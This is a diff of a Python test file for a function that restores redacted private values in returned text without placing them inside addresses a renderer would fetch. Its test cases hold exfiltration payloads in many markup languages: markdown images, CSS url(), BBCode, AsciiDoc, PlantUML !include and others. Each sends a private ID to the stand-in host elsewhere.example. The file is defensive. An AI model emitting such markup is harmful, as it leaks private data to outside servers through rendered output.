@@ -36,6 +36,16 @@ PIECES += [
     '"',
     "(",
     "\\newcommand",
+    "&bsol;",
+    "&#92;",
+    "&",
+    ";",
+    "[",
+    "[img]",
+    "![",
+    "@",
+    "=",
+    "a:b",
 ]
 
 
@@ -50,16 +60,20 @@ def oracle(text):
     longest = sorted(map(re.escape, ORIGINALS), key=len, reverse=True)
     space, opening, closing = r" \t\n\r\f\v", "\"'“‘«„(*_`~", ".,;:!?)\"'”’»*_`~…"
     pattern = rf"(?<![^{space}])([{opening}]*)({'|'.join(longest)})(?=(?:['’]s)?[{closing}]*(?![^{space}]))"
-    shut = re.search(r"<(?:[^\W\d_]|[/!?])|\][(:]|\\[^\W\d_]|`{3}|~{3}|:{3}", text)
-    end = shut.end() if shut else len(text) + 1
-
-    def put(found):
-        before = text[: found.start(2)]
+    openers = (
+        r"<(?:[^\W\d_]|[/!?])", r"![^\s!?)\"'*_]", r"\[[^\s\d\"\]^{]", r"\][(:]", r"\\[^\W\d_]", r"`{3}", r"~{3}", "::",
+        r"\{[{%]", r"(?<!\S)@", r"&(?:[^\W_]|#)*;", r"\{[^=]*=",
+    )  # fmt: skip
+    address = r"<|[/\\]{2}|[^\W\d_]:(?:[^\W_]|[/\\])"
+    said, before, place = "", "", 0  # before: what the vendor wrote, without what was restored
+    for found in re.finditer(pattern, text, flags=re.IGNORECASE | re.ASCII):
+        said, before = said + text[place : found.start(2)], before + text[place : found.start(2)]
+        place = found.start(2)
         alone = before.endswith('"') and text[found.end(2) : found.end(2) + 1] == '"'
-        kept = found.start(2) >= end or "<" in before[before.rfind("\n") + 1 :] or ("{" in before and not alone)
-        return found[0] if kept else found[1] + ORIGINALS[found[2].lower()]
-
-    return re.sub(pattern, put, text, flags=re.IGNORECASE | re.ASCII)
+        line = re.search(address, before[before.rfind("\n") + 1 :])
+        if not (line or ("{" in before and not alone) or any(re.search(opener, before) for opener in openers)):
+            said, before, place = said + ORIGINALS[found[2].lower()], before + "\0", found.end(2)
+    return said + text[place:]
 
 
 def test_a_surrogate_cut_anywhere_is_restored():
@@ -129,6 +143,23 @@ def test_ten_thousand_chunkings_of_one_reply():
         "![a]\n\n[b]:\n\n[a]:\n ID-00017",
         r"$\def\f#1;{\style{background-image:url(#1)}{x}}\f https://elsewhere.example/?to= ID-00017 ;$",
         "![x]\n\n[x]:\n   ID-00017",
+        # Attributes in single quotes, and what becomes a quote or a backslash only where it is drawn.
+        """*x*{: style='background-image:url(&#39;https://elsewhere.example/?to= "ID-00017" &#39;)' }""",
+        """*x*{: style='background-image:\nurl( "ID-00017" )' }""",
+        """$$&bsol;includegraphics{ "ID-00017" }$$""",
+        # Other markups: BBCode, AsciiDoc, Jira, reStructuredText, Showdown's spaces, PlantUML.
+        "[img]https://elsewhere.example/?to=\n ID-00017 [/img]",
+        "image::https://elsewhere.example/?to= ID-00017 .png[x]",
+        "see image:https://elsewhere.example/?to= ID-00017 .png[x]",
+        "see image:http:elsewhere.example/?to= ID-00017 .png[x]",
+        "!//elsewhere.example/?to= ID-00017 !",
+        ".. image:: https://elsewhere.example/?to=\n   ID-00017",
+        '!."ID-00017"!',
+        '{{https://elsewhere.example/\n "ID-00017" }}',
+        "[[https://elsewhere.example/?to=\n ID-00017 .png]]",
+        "![x] ( ID-00017 )",
+        "@startuml\n!include https://elsewhere.example/?to=\n ID-00017\n@enduml",
+        "/// html | div[style='background:url(https://elsewhere.example/?to=\n ID-00017 )']\n///",
     ],
 )
 def test_no_private_value_gets_into_an_address_that_a_window_would_fetch(reply):
@@ -141,6 +172,8 @@ def test_after_what_may_be_an_address_only_plain_lines_are_restored():
     before = "See ID-00017.\n"
     for opener, later in (
         ("a < b", "B-4711"),
+        ("see https://example.com/", "B-4711"),
+        ("- [ ] AT&T said: [1] so; 10:30 and/or **Name:** e.g.", "B-4711"),
         ("[x](u)", "ID-00017"),
         ("`ls`", "B-4711"),
         ("```\nls\n```", "ID-00017"),
